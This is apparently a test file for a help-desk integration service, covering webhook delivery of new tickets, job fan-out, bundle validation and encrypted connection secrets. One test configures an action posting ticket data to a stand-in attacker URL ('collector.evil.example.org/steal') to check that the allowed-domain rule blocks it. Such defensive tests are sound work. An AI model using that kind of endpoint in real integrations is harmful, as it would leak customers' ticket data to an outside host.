import { sql } from 'drizzle-orm';
import { http } from 'msw';
import { setupServer } from 'msw/node';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createWebhookSinkSandbox } from '../../runner/sandboxes/webhook-sink.ts';
import { queueZisJobs } from '../../runner/zis/dispatch.ts';
import { closeTestEngines, countRows } from '../helpers/runner.ts';
import type { World } from '../helpers/world.ts';
import { createZisWorld, integrationLog } from './helpers.ts';

const TOKEN = 'hook-bearer-token-5f2c9e';
const ZIS = '/api/services/zis';
let sink = createWebhookSinkSandbox({ token: TOKEN });
const server = setupServer(http.all('https://hooks.example.com/*', ({ request }) => sink.handle(request)));

/** The shape of the public ZIS tutorials: ticket created → an HTTP action posting ticket fields to a webhook. */
function tutorialBundle(over: { url?: string; message?: string } = {}) {
  return {
    zis_template_version: '2019-10-14',
    name: 'ticket_webhook',
    description: 'Posts each new ticket to our webhook',
    resources: {
      post_ticket: {
        type: 'ZIS::Action::Http',
        properties: {
          name: 'post_ticket',
          definition: {
            method: 'POST', url: over.url ?? 'https://hooks.example.com/tickets/{{$.ticket_id}}', connectionName: 'webhook_auth',
            headers: [{ key: 'X-Source', value: 'deskbridge ticket {{$.ticket_id}}' }],
            requestBody: { 'ticket_id.$': '$.ticket_id', 'subject.$': '$.subject', 'priority.$': '$.priority', text: 'New ticket: {{$.subject}}' },
          },
        },
      },
      ticket_created_flow: {
        type: 'ZIS::Flow',
        properties: {
          name: 'ticket_created_flow',
          definition: {
            StartAt: 'PostTicket',
            States: {
              PostTicket: {
                Type: 'Action', ActionName: 'zis:my_integration:action:post_ticket',
                Parameters: { 'ticket_id.$': '$.input.ticket_event.ticket.id', 'subject.$': '$.input.ticket_event.ticket.subject', 'priority.$': '$.input.ticket_event.ticket.priority' },
                ResultPath: '$.webhook', Next: 'Done',
              },
              Done: { Type: 'Succeed', ...(over.message ? { Message: over.message } : {}) },
            },
          },
        },
      },
      ticket_created_job_spec: {
        type: 'ZIS::JobSpec',
        properties: { name: 'ticket_created_job_spec', event_source: 'support', event_type: 'ticket.TicketCreated', flow_name: 'zis:my_integration:flow:ticket_created_flow' },
      },
    },
  };
}

let w: World;
beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
afterAll(() => server.close());
beforeEach(async () => {
  sink = createWebhookSinkSandbox({ token: TOKEN });
  w = await createZisWorld();
});
afterEach(async () => { server.resetHandlers(); await closeTestEngines(); await w.close(); });

async function deploy(bundle: unknown = tutorialBundle()) {
  expect((await w.call('POST', `${ZIS}/registry/my_integration`, { body: { description: 'Tickets to our webhook' } })).status).toBe(201);
  const conn = await w.call('POST', `${ZIS}/integrations/my_integration/connections/bearer_token`, { body: { name: 'webhook_auth', token: TOKEN, allowed_domain: 'hooks.example.com' } });
  expect(conn.status).toBe(201);
  const upload = await w.call('POST', `${ZIS}/registry/my_integration/bundles`, { body: bundle });
  expect(upload.status).toBe(200);
  const install = await w.call('POST', `${ZIS}/registry/job_specs/install?job_spec_name=zis:my_integration:job_spec:ticket_created_job_spec`);
  expect(install.status).toBe(204);
}

async function createTicket(subject: string) {
  const res = await w.call('POST', '/api/v2/tickets', { body: { ticket: { subject, comment: { body: 'It smokes.' }, priority: 'high', requester: { name: 'Rita', email: 'rita@customer.test' } } } });
  expect(res.status).toBe(201);
  return res.json.ticket as { id: number };
}

const logs = () => integrationLog(w, 'my_integration');

describe('a tutorial bundle deployed through the registry API', () => {
  it('runs end to end: ticket created → the webhook gets the mapped body with the connection\'s auth → info row', async () => {
    await deploy();
    const ticket = await createTicket('Printer on fire');
    await w.engine!.drain();

    // The sink only accepts `Bearer ${TOKEN}`: a delivery it kept carried the connection's auth.
    const received = sink.state.received;
    expect(received).toHaveLength(1);
    expect(received[0]!.path).toBe(`/tickets/${ticket.id}`);
    expect(received[0]!.headers['x-source']).toBe(`deskbridge ticket ${ticket.id}`);
    expect(received[0]!.headers['content-type']).toBe('application/json');
    expect(received[0]!.body).toEqual({ ticket_id: ticket.id, subject: 'Printer on fire', priority: 'high', text: 'New ticket: Printer on fire' });

    const rows = await logs();
    expect(rows.map((r) => [r.status, r.description, r.ticket_id])).toEqual([
      ['info', 'Execution Successful', ticket.id],
      ['debug', expect.stringMatching(new RegExp(`^POST https://hooks\\.example\\.com/tickets/${ticket.id} → 200 \\(\\d+ ms\\)$`)), ticket.id],
    ]);
    expect(rows[0]!.details).toMatchObject({ job_spec: 'zis:my_integration:job_spec:ticket_created_job_spec', flow: 'zis:my_integration:flow:ticket_created_flow' });
    expect(JSON.stringify(rows)).not.toContain(TOKEN);

    // One job per event × job spec: dispatching again queues nothing new.
    await w.engine!.drain();
    expect(sink.state.count).toBe(1);
  });

  it('logs the flow\'s own Message, and nothing runs once the job spec is uninstalled', async () => {
    await deploy(tutorialBundle({ message: 'Ticket {{$.input.ticket_event.ticket.id}} sent to the webhook' }));
    const t = await createTicket('First');
    await w.engine!.drain();
    expect((await logs()).filter((r) => r.status === 'info').map((r) => r.description)).toEqual([`Ticket ${t.id} sent to the webhook`]);

    expect((await w.call('DELETE', `${ZIS}/registry/job_specs/install?job_spec_name=zis:my_integration:job_spec:ticket_created_job_spec`)).status).toBe(204);
    await createTicket('Second');
    await w.engine!.drain();
    expect(sink.state.count).toBe(1);
  });

  it('a failing webhook call ends the flow with an error row naming the cause', async () => {
    await deploy(tutorialBundle({ url: 'https://hooks.example.com/status/500' }));
    const t = await createTicket('Broken');
    await w.engine!.drain();
    const rows = await logs();
    expect(rows.map((r) => [r.status, r.description])).toEqual([
      ['error', 'zis:my_integration:action:post_ticket: POST https://hooks.example.com/status/500 answered 500: {"error":"Refused","message":"This endpoint always answers 500"}'],
      ['debug', expect.stringMatching(/^POST https:\/\/hooks\.example\.com\/status\/500 → 500/)],
    ]);
    expect(rows[0]!.ticket_id).toBe(t.id);
    expect(rows[0]!.details.error).toBe('States.TaskFailed');
  });

  it('an HTTP action outside the connection\'s allowed domain is refused and nothing is sent', async () => {
    await deploy(tutorialBundle({ url: 'https://collector.evil.example.org/steal' }));
    await createTicket('Secret stuff');
    await w.engine!.drain();
    expect(sink.state.count).toBe(0);
    const [row] = await logs();
    expect(row).toMatchObject({
      status: 'error',
      description: 'Refused to call https://collector.evil.example.org/steal: the connection "webhook_auth" may only call hooks.example.com and its subdomains',
    });
  });
});

describe('fan-out from the outbox', () => {
  it('queues one job per event × installed job spec, even when the same events are dispatched twice', async () => {
    await deploy();
    const ticket = { id: 42, subject: 'S', description: 'D', status: 'new', priority: null, type: null, requester_id: 1, submitter_id: 1, assignee_id: null, group_id: null, organization_id: null, tags: [], external_id: null, via_channel: 'api', created_at: '2026-03-02T09:00:00Z', updated_at: '2026-03-02T09:00:00Z' };
    const events = [
      { id: 9001, accountId: w.acme.id, type: 'ticket.created', payload: { ticket, actor_id: 1 }, ticketId: 42, createdAt: new Date() },
      { id: 9002, accountId: w.acme.id, type: 'ticket.commented', payload: { ticket, actor_id: 1, comment: { id: 1, body: 'b', public: true, author_id: 1 } }, ticketId: 42, createdAt: new Date() },
      { id: 9003, accountId: w.globex.id, type: 'ticket.created', payload: { ticket, actor_id: 1 }, ticketId: 42, createdAt: new Date() },
    ];
    await queueZisJobs(w.db, events, new Date());
    await queueZisJobs(w.db, events, new Date());
    const jobs = await w.database.rows<{ name: string; idempotency_key: string; ticket_id: number }>(sql`select name, idempotency_key, ticket_id from jobs where kind = 'zis'`);
    expect(jobs.map((j) => [j.name, j.idempotency_key, Number(j.ticket_id)])).toEqual([['zis:my_integration:job_spec:ticket_created_job_spec', expect.stringMatching(/^zis:9001:\d+$/), 42]]);
  });
});

describe('bundle validation', () => {
  it('answers 400 listing every problem with its path and reason', async () => {
    await w.call('POST', `${ZIS}/registry/my_integration`, { body: {} });
    const res = await w.call('POST', `${ZIS}/registry/my_integration/bundles`, {
      body: {
        zis_template_version: '2020-01-01', name: 'broken',
        resources: {
          flow: {
            type: 'ZIS::Flow',
            properties: {
              name: 'f',
              definition: {
                StartAt: 'Nope',
                States: {
                  A: { Type: 'Action', ActionName: 'zis:my_integration:action:missing', Next: 'Gone' },
                  B: { Type: 'Choice', Choices: [{ Variable: '$.x', NumericEquals: 'five', Next: 'A' }] },
                  C: { Type: 'Teleport' },
                },
              },
            },
          },
          hook: { type: 'ZIS::Action::Http', properties: { name: 'h', definition: { method: 'FETCH', path: 'no-slash' } } },
          spec: { type: 'ZIS::JobSpec', properties: { name: 's', event_source: 'support', event_type: 'ticket.Exploded', flow_name: 'zis:my_integration:flow:other' } },
          odd: { type: 'ZIS::Lambda', properties: {} },
        },
      },
    });
    expect(res.status).toBe(400);
    expect(res.json.error).toBe('InvalidBundle');
    expect(Object.keys(res.json.details).sort()).toEqual([
      'resources.flow.properties.definition.StartAt',
      'resources.flow.properties.definition.States.A.ActionName',
      'resources.flow.properties.definition.States.A.Next',
      'resources.flow.properties.definition.States.B.Choices.0.NumericEquals',
      'resources.flow.properties.definition.States.C.Type',
      'resources.hook.properties.definition.connectionName',
      'resources.hook.properties.definition.method',
      'resources.hook.properties.definition.path',
      'resources.odd.type',
      'resources.spec.properties.event_type',
      'resources.spec.properties.flow_name',
      'zis_template_version',
    ]);
    expect(res.json.description).toMatch(/^The bundle has 12 problems: /);
    expect(res.json.details['resources.flow.properties.definition.States.A.Next'][0].description).toBe('must name one of the States (A, B, C)');
    expect(await countRows(w.database, sql`select count(*)::int as n from zis_bundles`)).toBe(0);
  });

  it('refuses a bundle for an unknown integration, a body that is not JSON, and callers below admin', async () => {
    expect((await w.call('POST', `${ZIS}/registry/nobody/bundles`, { body: tutorialBundle() })).status).toBe(404);
    await w.call('POST', `${ZIS}/registry/my_integration`, { body: {} });
    expect((await w.call('POST', `${ZIS}/registry/my_integration/bundles`, { raw: '{"name":', headers: { 'content-type': 'application/json' } })).status).toBe(400);
    expect((await w.call('POST', `${ZIS}/registry/my_integration/bundles`, { body: tutorialBundle(), as: w.acme.agent })).status).toBe(403);
    expect((await w.call('GET', `${ZIS}/registry/integrations`, { as: null })).status).toBe(401);
    expect((await w.call('POST', `${ZIS}/registry/my_integration`, { body: {} })).status).toBe(409);
  });
});

describe('connections API', () => {
  beforeEach(async () => { await w.call('POST', `${ZIS}/registry/my_integration`, { body: {} }); });

  it('never answers secrets and stores them encrypted', async () => {
    const base = `${ZIS}/integrations/my_integration/connections`;
    const created = await Promise.all([
      w.call('POST', `${base}/api_key`, { body: { name: 'crm', api_key: 'apikey-secret-1', header_name: 'X-Api-Key', allowed_domain: 'api.crm.example' } }),
      w.call('POST', `${base}/basic_auth`, { body: { name: 'erp', username: 'svc', password: 'password-secret-2', allowed_domain: 'erp.example' } }),
      w.call('POST', `${base}/oauth`, { body: { name: 'chat', access_token: 'oauth-secret-3', allowed_domain: 'chat.example' } }),
    ]);
    expect(created.map((r) => r.status)).toEqual([201, 201, 201]);
    expect(created[0]!.json).toEqual({ api_key: { name: 'crm', allowed_domain: 'api.crm.example', header_name: 'X-Api-Key', created_at: expect.any(String), updated_at: expect.any(String) } });
    const all = await w.call('GET', `${base}/all`);
    expect(all.json.api_key.map((c: { name: string }) => c.name)).toEqual(['crm']);
    expect(all.json.basic_auth.map((c: { name: string }) => c.name)).toEqual(['erp']);
    expect(all.json.oauth.map((c: { name: string }) => c.name)).toEqual(['chat']);
    const shown = JSON.stringify([created.map((r) => r.json), all.json, (await w.call('GET', `${base}/basic_auth/erp`)).json]);
    for (const secret of ['apikey-secret-1', 'password-secret-2', 'oauth-secret-3']) expect(shown).not.toContain(secret);

    const stored = await w.database.rows<{ secret: string }>(sql`select secret from integration_connections`);
    expect(stored).toHaveLength(3);
    for (const row of stored) {
      expect(row.secret).toMatch(/^v1:/);
      for (const secret of ['apikey-secret-1', 'password-secret-2', 'oauth-secret-3']) expect(row.secret).not.toContain(secret);
    }

    expect((await w.call('POST', `${base}/bearer_token`, { body: { name: 'crm', token: 'x-token-value', allowed_domain: 'x.example' } })).status).toBe(409);
    expect((await w.call('GET', `${base}/bearer_token/crm`)).status).toBe(404);
    const patched = await w.call('PATCH', `${base}/api_key/crm`, { body: { api_key: 'apikey-secret-4', header_name: 'X-Key', allowed_domain: 'crm.example' } });
    expect(patched.json.api_key).toMatchObject({ allowed_domain: 'crm.example', header_name: 'X-Key' });
    expect((await w.call('DELETE', `${base}/api_key/crm`)).status).toBe(204);
    expect((await w.call('GET', `${base}/api_key/crm`)).status).toBe(404);
  });

  it('answers 422 naming each missing or bad field', async () => {
    const res = await w.call('POST', `${ZIS}/integrations/my_integration/connections/api_key`, { body: { name: 'x', allowed_domain: 'ok.example' } });
    expect(res.status).toBe(422);
    expect(Object.keys(res.json.details).sort()).toEqual(['api_key', 'header_name']);
    const bad = await w.call('POST', `${ZIS}/integrations/my_integration/connections/bearer_token`, { body: { name: 'x', token: 'tok-1234', allowed_domain: 'https://ok.example/path' } });
    expect(bad.status).toBe(422);
    expect(Object.keys(bad.json.details)).toEqual(['allowed_domain']);
  });
});
